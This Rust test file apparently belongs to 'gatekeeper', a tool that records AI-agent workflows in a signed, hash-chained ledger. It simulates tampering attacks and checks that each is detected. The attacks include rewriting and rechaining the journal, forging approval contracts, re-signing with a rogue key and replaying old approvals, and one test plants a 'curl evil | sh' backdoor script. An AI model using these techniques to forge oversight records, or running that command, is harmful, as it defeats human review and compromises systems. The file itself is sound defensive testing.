//! The tamper suite (issue 4, SPEC §13 "no way around a gate"): distinct attacks on the ledger and
//! the gates, each of which must be detected. Listed in docs/security.md with the detecting command.

use gatekeeper::hash::sha256_hex;
use serde_json::Value;

use crate::ci::{governed, head};
use crate::support::{PATCH_CONFIG, PATCH_PROMPT, Ws};

const J: &str = ".ai-stack-trace/t/ledger.jsonl";

fn at_step(to: u32) -> Ws {
    let ws = Ws::with_patch_task();
    ws.gk(&["run", "t", "--to", &to.to_string()]).expect(0);
    ws
}

fn append(ws: &Ws, rel: &str, text: &str) {
    let old = ws.read(rel);
    ws.file(rel, &format!("{old}{text}"));
}

fn lines(ws: &Ws) -> Vec<String> {
    ws.read(J).lines().map(str::to_owned).collect()
}

fn write_lines(ws: &Ws, lines: &[String]) {
    ws.file(J, &(lines.join("\n") + "\n"));
}

/// Rewrites the journal through `edit`, then recomputes `seq` and `prev` so the chain is
/// consistent again (what a forger without the signing key can do).
pub(crate) fn rechain(ws: &Ws, edit: impl FnOnce(&mut Vec<Value>)) {
    let mut entries: Vec<Value> = lines(ws)
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    edit(&mut entries);
    let mut prev = Value::Null;
    let mut out = Vec::new();
    for (i, e) in entries.iter_mut().enumerate() {
        e["seq"] = Value::from(i as u64);
        e["prev"] = prev.clone();
        let line = serde_json::to_string(e).unwrap();
        prev = Value::String(sha256_hex(line.as_bytes()));
        out.push(line);
    }
    write_lines(ws, &out);
}

/// Widens the approved scope in decisions.md and fixes the journal's record of it.
fn rewrite_decisions_consistently(ws: &Ws, keep_signatures: bool) {
    let rel = ".ai-stack-trace/t/claude/decisions.md";
    let text = ws.read(rel).replace("- `src/greeting.txt`", "- `**`");
    ws.file(rel, &text);
    let sha = sha256_hex(text.as_bytes());
    rechain(ws, |entries| {
        for e in entries.iter_mut() {
            if let Some(f) = e["files"].get_mut("claude/decisions.md") {
                *f = Value::String(sha.clone());
            }
        }
        if !keep_signatures {
            entries.retain(|e| e["event"] != "signature");
        }
    });
}

fn verify_fails(ws: &Ws) -> String {
    let run = ws.gk(&["verify", "t"]).expect(7);
    run.stdout
}

// ----- ledger files -----------------------------------------------------------------------

#[test]
fn t01_edited_audit() {
    let ws = at_step(8);
    append(
        &ws,
        ".ai-stack-trace/t/gemini/audit.md",
        "\nall good, ship it\n",
    );
    assert!(verify_fails(&ws).contains("gemini/audit.md"));
}

#[test]
fn t02_widened_decisions() {
    let ws = at_step(8);
    let d = ws
        .read(".ai-stack-trace/t/claude/decisions.md")
        .replace("`src/greeting.txt`", "`**`");
    ws.file(".ai-stack-trace/t/claude/decisions.md", &d);
    assert!(verify_fails(&ws).contains("claude/decisions.md"));
}

#[test]
fn t03_edited_post_implement_audit() {
    let ws = at_step(8);
    append(
        &ws,
        ".ai-stack-trace/t/claude/post-implement-audit.md",
        "\n",
    );
    verify_fails(&ws);
}

#[test]
fn t04_edited_verdict_json() {
    let ws = at_step(8);
    let v = ws
        .read(".ai-stack-trace/t/claude/verdict.json")
        .replace("approve", "approve ");
    ws.file(".ai-stack-trace/t/claude/verdict.json", &v);
    verify_fails(&ws);
}

#[test]
fn t05_edited_prompt_copy() {
    let ws = at_step(8);
    append(&ws, ".ai-stack-trace/t/inputs/prompt.md", "- `**`\n");
    verify_fails(&ws);
}

#[test]
fn t06_hidden_test_failure_in_run_log() {
    let ws = at_step(8);
    let log = ws
        .read(".ai-stack-trace/t/tests/run.log")
        .replace("passed", "passed (edited)");
    ws.file(".ai-stack-trace/t/tests/run.log", &log);
    verify_fails(&ws);
}

#[test]
fn t07_edited_status_json() {
    let ws = at_step(8);
    let s = ws
        .read(".ai-stack-trace/t/final/status.json")
        .replace("no-deploy", "production");
    ws.file(".ai-stack-trace/t/final/status.json", &s);
    verify_fails(&ws);
}

#[test]
fn t08_deleted_plan() {
    let ws = at_step(8);
    std::fs::remove_file(ws.path(".ai-stack-trace/t/codex/plan.md")).unwrap();
    assert!(verify_fails(&ws).contains("missing"));
}

#[test]
fn t09_unrecorded_file_added() {
    let ws = at_step(8);
    ws.file(".ai-stack-trace/t/gemini/second-opinion.md", "looks fine\n");
    assert!(verify_fails(&ws).contains("does not record"));
}

// ----- contracts --------------------------------------------------------------------------

#[test]
fn t10_contract_content_edited() {
    let ws = at_step(8);
    ws.file(
        ".ai-stack-trace/t/contract/CLAUDE_FINAL_OK",
        "CLAUDE_FINAL_OK:other\n",
    );
    verify_fails(&ws);
}

#[test]
fn t11_contract_deleted() {
    let ws = at_step(8);
    std::fs::remove_file(ws.path(".ai-stack-trace/t/contract/CLAUDE_DECISIONS_OK")).unwrap();
    verify_fails(&ws);
}

#[test]
fn t12_contract_forged_before_approval_closes_the_gate() {
    let ws = at_step(5);
    ws.file(
        ".ai-stack-trace/t/contract/CLAUDE_FINAL_OK",
        "CLAUDE_FINAL_OK:t\n",
    );
    assert!(verify_fails(&ws).contains("forged"));
    ws.gk(&["step", "7", "t"]).expect(7);
}

#[test]
fn t13_contract_copied_from_another_task() {
    let ws = at_step(5);
    ws.prompt("u", crate::ci::OTHER_PROMPT);
    let donor = Ws::with_patch_task();
    donor.gk(&["run", "t"]).expect(0);
    let contract = donor.read(".ai-stack-trace/t/contract/CLAUDE_FINAL_OK");
    ws.file(".ai-stack-trace/t/contract/CLAUDE_FINAL_OK", &contract);
    verify_fails(&ws);
    ws.gk(&["step", "7", "t"]).expect(7);
}

#[test]
fn t14_revoked_contract_restored() {
    let ws = at_step(6);
    let contract = ws.read(".ai-stack-trace/t/contract/CLAUDE_FINAL_OK");
    ws.gk(&["step", "5", "t"]).expect(0);
    assert!(
        !ws.exists(".ai-stack-trace/t/contract/CLAUDE_FINAL_OK"),
        "re-running step 5 withdraws step 6's contract"
    );
    ws.file(".ai-stack-trace/t/contract/CLAUDE_FINAL_OK", &contract);
    verify_fails(&ws);
    ws.gk(&["step", "7", "t"]).expect(7);
}

// ----- the journal ------------------------------------------------------------------------

#[test]
fn t15_journal_line_edited() {
    let ws = at_step(8);
    let mut l = lines(&ws);
    l[4] = l[4]
        .replace("\"outcome\":\"done\"", "\"outcome\":\"done\" ")
        .replace("gemini", "claude");
    write_lines(&ws, &l);
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t16_journal_line_removed_from_the_middle() {
    let ws = at_step(8);
    let mut l = lines(&ws);
    l.remove(10);
    write_lines(&ws, &l);
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t17_journal_lines_reordered() {
    let ws = at_step(8);
    let mut l = lines(&ws);
    l.swap(7, 8);
    write_lines(&ws, &l);
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t18_journal_tail_truncated() {
    let ws = at_step(8);
    let mut l = lines(&ws);
    l.pop();
    write_lines(&ws, &l);
    let run = ws.gk(&["verify", "t"]).expect(7);
    assert!(run.stdout.contains("truncated"), "{}", run.stdout);
}

#[test]
fn t19_journal_cut_in_half() {
    let ws = at_step(8);
    let l = lines(&ws);
    write_lines(&ws, &l[..l.len() / 2]);
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t20_garbage_line_appended() {
    let ws = at_step(8);
    append(&ws, J, "{\"event\":\"contract_written\"}\n");
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t21_journal_reformatted() {
    let ws = at_step(8);
    let l: Vec<String> = lines(&ws)
        .iter()
        .map(|l| l.replace("\",\"", "\", \""))
        .collect();
    write_lines(&ws, &l);
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t22_journal_replaced_by_a_symlink() {
    let ws = at_step(8);
    let outside = ws.path("../journal-copy.jsonl");
    std::fs::copy(ws.path(J), &outside).unwrap();
    std::fs::remove_file(ws.path(J)).unwrap();
    std::os::unix::fs::symlink(&outside, ws.path(J)).unwrap();
    ws.gk(&["verify", "t"]).expect(7);
}

#[test]
fn t23_symlink_out_of_the_ledger() {
    let ws = at_step(8);
    std::os::unix::fs::symlink("/etc/passwd", ws.path(".ai-stack-trace/t/gemini/passwd")).unwrap();
    assert!(verify_fails(&ws).contains("symlink"));
}

#[test]
fn t24_consistent_rewrite_caught_by_the_local_head() {
    let ws = at_step(8);
    rewrite_decisions_consistently(&ws, false);
    let out = verify_fails(&ws);
    assert!(out.contains("this machine"), "{out}");
}

#[test]
fn t25_ledger_replayed_under_another_name() {
    let ws = at_step(8);
    for (rel, bytes) in ws.snapshot_tree(".ai-stack-trace/t") {
        let to = ws.path(&rel.replacen(".ai-stack-trace/t/", ".ai-stack-trace/u/", 1));
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::write(to, bytes).unwrap();
    }
    let run = ws.gk(&["verify", "u"]).expect(7);
    assert!(run.stderr.contains("belongs to task `t`"), "{}", run.stderr);
}

// ----- the tree ---------------------------------------------------------------------------

#[test]
fn t26_approved_file_edited_before_commit() {
    let ws = at_step(6);
    ws.file("src/greeting.txt", "Hello, attacker!\n");
    verify_fails(&ws);
    ws.gk(&["step", "7", "t"]).expect(7);
}

#[test]
fn t27_approved_file_mode_changed() {
    use std::os::unix::fs::PermissionsExt;
    let ws = at_step(7);
    std::fs::set_permissions(
        ws.path("src/greeting.txt"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    verify_fails(&ws);
    ws.gk(&["step", "8", "t"]).expect(7);
}

#[test]
fn t28_approved_file_deleted() {
    let ws = at_step(7);
    std::fs::remove_file(ws.path("src/greeting.txt")).unwrap();
    verify_fails(&ws);
    ws.gk(&["step", "8", "t"]).expect(7);
}

#[test]
fn t29_extra_file_slipped_in_after_approval() {
    let ws = at_step(7);
    ws.file("src/backdoor.sh", "curl evil | sh\n");
    verify_fails(&ws);
    ws.gk(&["step", "8", "t"]).expect(7);
}

// ----- signed ledgers and the CI gate -----------------------------------------------------

/// A signed governed PR: the base trusts a fresh key and requires signatures.
fn signed() -> (Ws, String) {
    let keygen = Ws::new().gk(&["keygen"]).expect(0);
    let secret = keygen
        .stdout
        .lines()
        .next()
        .unwrap()
        .trim_start_matches("GATEKEEPER_SIGNING_KEY=")
        .to_owned();
    let public = keygen
        .stdout
        .lines()
        .nth(1)
        .unwrap()
        .trim_start_matches("public key: ")
        .to_owned();
    let ws = Ws::new();
    ws.config(&format!(
        "{PATCH_CONFIG}trust: {{ keys: [\"{public}\"] }}\nci: {{ require_signed: true }}\n"
    ));
    let base = ws.commit("config");
    ws.prompt("t", PATCH_PROMPT);
    let out = ws
        .cmd(&["run", "t"])
        .env("GATEKEEPER_SIGNING_KEY", &secret)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !ws.read(J).contains(&secret),
        "the secret key is never written"
    );
    ws.gk(&["ci", "--base", &base]).expect(0);
    // CI runs on a fresh clone: no local journal head.
    std::fs::remove_dir_all(ws.path(".git/gatekeeper")).unwrap();
    (ws, base)
}

#[test]
fn t30_consistent_rewrite_without_the_key() {
    let (ws, base) = signed();
    rewrite_decisions_consistently(&ws, true);
    ws.commit("rewrite");
    let run = ws.gk(&["ci", "--base", &base]).expect(7);
    assert!(
        run.stdout.contains("signature does not match"),
        "{}",
        run.stdout
    );
}

#[test]
fn t31_consistent_rewrite_stripping_signatures() {
    let (ws, base) = signed();
    rewrite_decisions_consistently(&ws, false);
    ws.commit("rewrite");
    let run = ws.gk(&["ci", "--base", &base]).expect(7);
    assert!(
        run.stdout.contains("no trusted signature"),
        "{}",
        run.stdout
    );
}

#[test]
fn t32_rewrite_resigned_with_an_untrusted_key() {
    let (ws, base) = signed();
    let rogue = Ws::new().gk(&["keygen"]).expect(0);
    let secret = rogue
        .stdout
        .lines()
        .next()
        .unwrap()
        .trim_start_matches("GATEKEEPER_SIGNING_KEY=")
        .to_owned();
    let signer = gatekeeper::ledger::signing::Signer::from_hex(&secret).unwrap();
    rewrite_decisions_consistently(&ws, true);
    // Re-sign every signature line with the rogue key, keeping the chain consistent.
    let mut entries: Vec<Value> = lines(&ws)
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut prev = Value::Null;
    let mut out = Vec::new();
    for (i, e) in entries.iter_mut().enumerate() {
        e["seq"] = Value::from(i as u64);
        e["prev"] = prev.clone();
        if e["event"] == "signature" {
            let p = prev.as_str().unwrap().to_owned();
            e["data"]["key"] = Value::String(signer.public_hex());
            e["data"]["sig"] = Value::String(signer.sign(&p));
        }
        let line = serde_json::to_string(e).unwrap();
        prev = Value::String(sha256_hex(line.as_bytes()));
        out.push(line);
    }
    write_lines(&ws, &out);
    ws.commit("rewrite and re-sign");
    let run = ws.gk(&["ci", "--base", &base]).expect(7);
    assert!(run.stdout.contains("not in `trust.keys`"), "{}", run.stdout);
}

#[test]
fn t33_pr_drops_the_trusted_key_from_its_own_config() {
    let (ws, base) = signed();
    rewrite_decisions_consistently(&ws, false);
    ws.config(PATCH_CONFIG);
    ws.commit("no more signatures, please");
    ws.gk(&["ci", "--base", &base]).expect(7);
}

#[test]
fn t34_unsigned_line_appended_with_a_valid_chain() {
    let (ws, base) = signed();
    rechain(&ws, |entries| {
        let mut forged = entries.last().unwrap().clone();
        forged["event"] = Value::String("note".into());
        entries.push(forged);
    });
    ws.commit("append");
    let run = ws.gk(&["ci", "--base", &base]).expect(7);
    assert!(
        run.stdout
            .contains("journal head carries no trusted signature"),
        "{}",
        run.stdout
    );
}

#[test]
fn t35_old_ledger_replayed_for_a_new_change() {
    let (ws, _) = governed(PATCH_CONFIG);
    let merged = head(&ws);
    ws.file("src/greeting.txt", "Hello again!\n");
    for (rel, bytes) in ws.snapshot_tree(".ai-stack-trace/t") {
        let to = ws.path(&rel.replacen(".ai-stack-trace/t/", ".ai-stack-trace/t2/", 1));
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::write(to, bytes).unwrap();
    }
    ws.commit("reuse the old approval");
    let run = ws.gk(&["ci", "--base", &merged]).expect(7);
    assert!(run.stdout.contains("belongs to task `t`"), "{}", run.stdout);
}
